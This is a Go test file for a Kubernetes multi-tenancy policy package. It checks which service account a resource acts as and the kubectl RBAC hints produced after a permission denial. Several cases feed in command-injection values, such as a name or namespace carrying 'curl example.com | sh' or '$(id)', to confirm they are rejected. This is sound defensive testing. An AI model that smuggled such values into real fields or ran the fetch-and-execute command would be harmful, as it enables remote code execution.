package tenancy_test

import (
	"fmt"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/types"

	"github.com/flotilla-io/flotilla/policies/tenancy"
)

// TestWhoActs: nobody but an administrator goes without a service account, whatever
// he refers to.
func TestWhoActs(t *testing.T) {
	rules := tenancy.Rules{PrivilegedNamespaces: []string{"flux-system", "platform"}}
	ref := func(namespaces ...string) []tenancy.Reference {
		var out []tenancy.Reference
		for i, namespace := range namespaces {
			out = append(out, tenancy.Reference{Field: fmt.Sprintf("spec.dependsOn[%d]", i), Namespace: namespace})
		}
		return out
	}
	cases := map[string]struct {
		rules   tenancy.Rules
		subject tenancy.Subject
		want    string
		because string
	}{
		"a tenant":                                {rules, tenancy.Subject{Namespace: "shop"}, "shop/default", "as it names no spec.serviceAccountName"},
		"a tenant who names an account":           {rules, tenancy.Subject{Namespace: "shop", ServiceAccountName: "deployer"}, "shop/deployer", "as spec.serviceAccountName says"},
		"a tenant who refers to an administrator": {rules, tenancy.Subject{Namespace: "shop", References: ref("flux-system")}, "shop/default", "as it names no spec.serviceAccountName"},
		"an administrator":                        {rules, tenancy.Subject{Namespace: "flux-system"}, "", "as its namespace is privileged"},
		"one who names an account":                {rules, tenancy.Subject{Namespace: "flux-system", ServiceAccountName: "deployer"}, "flux-system/deployer", "as spec.serviceAccountName says"},
		"one who refers to his own":               {rules, tenancy.Subject{Namespace: "flux-system", References: ref("", "flux-system", "platform")}, "", "as its namespace is privileged"},
		"one who refers to a tenant": {
			rules, tenancy.Subject{Namespace: "flux-system", References: ref("", "platform", "shop")}, "flux-system/default",
			"as it names no spec.serviceAccountName and spec.dependsOn[2] is in the namespace shop, which --privileged-source-namespaces does not name",
		},
		"another default account": {tenancy.Rules{DefaultServiceAccount: "deployer"}, tenancy.Subject{Namespace: "shop"}, "shop/deployer", "as it names no spec.serviceAccountName"},
		"no rules at all":         {tenancy.Rules{}, tenancy.Subject{Namespace: "flux-system"}, "flux-system/default", "as it names no spec.serviceAccountName"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			got, account := tc.rules.Of(tc.subject), ""
			if !got.Privileged() {
				account = got.ServiceAccount.String()
			}
			if account != tc.want || got.Because != tc.because {
				t.Errorf("%q acts, %s; want %q, %s", account, got.Because, tc.want, tc.because)
			}
		})
	}
}

// TestHintsForNoAccount: a name that no account can have grants nothing, and stands in
// no command.
func TestHintsForNoAccount(t *testing.T) {
	who := tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop", ServiceAccountName: "x;curl example.com|sh"})
	text := `User "system:serviceaccount:shop:x;curl example.com|sh" cannot patch resource "deployments" in API group "apps" in the namespace "web"`
	if got := who.Hint(text); got != "" {
		t.Errorf("hint = %q", got)
	}
	if err := who.Check(); err == nil || !strings.Contains(err.Error(), "curl") {
		t.Errorf("Check = %v", err)
	}
	for _, fine := range []tenancy.Identity{{}, tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop"}), tenancy.Rules{}.Of(tenancy.Subject{Namespace: "shop", ServiceAccountName: "flux.applier"})} {
		if err := fine.Check(); err != nil {
			t.Errorf("Check of %v = %v", fine, err)
		}
	}
}

func TestRulesAreChecked(t *testing.T) {
	cases := map[string]struct {
		rules tenancy.Rules
		want  string
	}{
		"none":                        {},
		"good ones":                   {rules: tenancy.Rules{DefaultServiceAccount: "flux.applier", PrivilegedNamespaces: []string{"flux-system"}}},
		"an account with a namespace": {tenancy.Rules{DefaultServiceAccount: "kube-system:default"}, "--default-service-account: "},
		"a pattern":                   {tenancy.Rules{PrivilegedNamespaces: []string{"flux-system", "*"}}, "--privileged-source-namespaces: "},
		"nothing":                     {tenancy.Rules{PrivilegedNamespaces: []string{""}}, "--privileged-source-namespaces: "},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			err := tc.rules.Check()
			if (err == nil) != (tc.want == "") || err != nil && !strings.HasPrefix(err.Error(), tc.want) {
				t.Errorf("error = %v, want one that begins with %q", err, tc.want)
			}
		})
	}
}

// TestWhatHoldsTenants: nobody is told how to give away what holds those whom it holds.
func TestWhatHoldsTenants(t *testing.T) {
	who := tenancy.Identity{ServiceAccount: types.NamespacedName{Namespace: "shop", Name: "default"}, Because: "as it names no spec.serviceAccountName"}
	for what, where := range map[string]string{
		`resource "resourcequotas" in API group "" in the namespace "web"`:                                        "resourcequotas",
		`resource "federatedresourcequotas" in API group "policy.karmada.io" in the namespace "web"`:              "federatedresourcequotas.policy.karmada.io",
		`resource "clusterrolebindings" in API group "rbac.authorization.k8s.io" at the cluster scope`:            "clusterrolebindings.rbac.authorization.k8s.io",
		`resource "validatingadmissionpolicies" in API group "admissionregistration.k8s.io" at the cluster scope`: "validatingadmissionpolicies.admissionregistration.k8s.io",
	} {
		want := "it acts as the service account shop/default, as it names no spec.serviceAccountName; whoever may write " + where +
			" is held by none: an administrator writes this, or has a Kustomization of his own do it"
		if got := who.Hint(`x "y" is forbidden: User "system:serviceaccount:shop:default" cannot patch ` + what); got != want {
			t.Errorf("%s:\n%s\nwant\n%s", what, got, want)
		}
	}
}

// TestHints: what is missing is granted by commands that can be pasted.
func TestHints(t *testing.T) {
	who := tenancy.Identity{ServiceAccount: types.NamespacedName{Namespace: "shop", Name: "default"}, Because: "as it names no spec.serviceAccountName"}
	lead := "it acts as the service account shop/default, as it names no spec.serviceAccountName; to allow it: "
	denies := func(what string) string {
		return `x "y" is forbidden: User "system:serviceaccount:shop:default" cannot ` + what
	}
	cases := map[string]struct{ text, want string }{
		"what the role edit covers": {
			denies(`patch resource "deployments" in API group "apps" in the namespace "web"`),
			"kubectl create rolebinding shop-default -n web --clusterrole=edit --serviceaccount=shop:default",
		},
		"roles": {
			denies(`patch resource "roles" in API group "rbac.authorization.k8s.io" in the namespace "web"`),
			"kubectl create rolebinding shop-default -n web --clusterrole=admin --serviceaccount=shop:default",
		},
		"a kind of one's own": {
			denies(`patch resource "gadgets" in API group "example.com" in the namespace "web"`),
			"kubectl create role shop-default-gadgets-example-com -n web --verb=get,create,patch,delete --resource=gadgets.example.com && " +
				"kubectl create rolebinding shop-default-gadgets-example-com -n web --role=shop-default-gadgets-example-com --serviceaccount=shop:default",
		},
		"a look": {
			denies(`get resource "secrets" in API group "" in the namespace "web"`),
			"kubectl create role shop-default-get-secrets -n web --verb=get --resource=secrets && " +
				"kubectl create rolebinding shop-default-get-secrets -n web --role=shop-default-get-secrets --serviceaccount=shop:default",
		},
		"what has no namespace": {
			denies(`patch resource "namespaces" in API group "" at the cluster scope`),
			"kubectl create clusterrole shop-default-namespaces --verb=get,create,patch,delete --resource=namespaces && " +
				"kubectl create clusterrolebinding shop-default-namespaces --clusterrole=shop-default-namespaces --serviceaccount=shop:default",
		},
		"a namespace that a shell would run": {text: denies(`patch resource "configmaps" in API group "" in the namespace "web; curl example.com | sh"`)},
		"a kind that it would":               {text: denies(`patch resource "x$(id)" in API group "example.com" in the namespace "web"`)},
		"another refusal":                    {text: "quota exceeded"},
		"somebody else's":                    {text: `serviceaccounts "default" is forbidden: User "loops" cannot impersonate resource "serviceaccounts" in API group "" in the namespace "shop"`},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			want := ""
			if tc.want != "" {
				want = lead + tc.want
			}
			if got := who.Hint(tc.text); got != want {
				t.Errorf("hint = %q, want %q", got, want)
			}
			if got := (tenancy.Identity{}).Hint(tc.text); got != "" {
				t.Errorf("the control plane itself is told %q", got)
			}
		})
	}
}
